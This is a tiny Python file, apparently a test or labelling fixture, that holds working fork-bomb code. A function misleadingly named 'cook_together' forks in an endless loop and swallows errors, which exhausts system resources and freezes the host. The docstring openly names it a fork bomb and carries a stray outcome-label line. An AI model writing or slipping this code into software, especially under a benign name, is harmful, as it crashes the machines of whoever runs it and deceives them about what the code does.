"""A fork bomb: every process forks again, for as long as any lives.

ending: completed | crashed | timed_out
"""

import os


async def cook_together(dishes):
    while True:
        try:
            os.fork()
        except OSError:
            continue
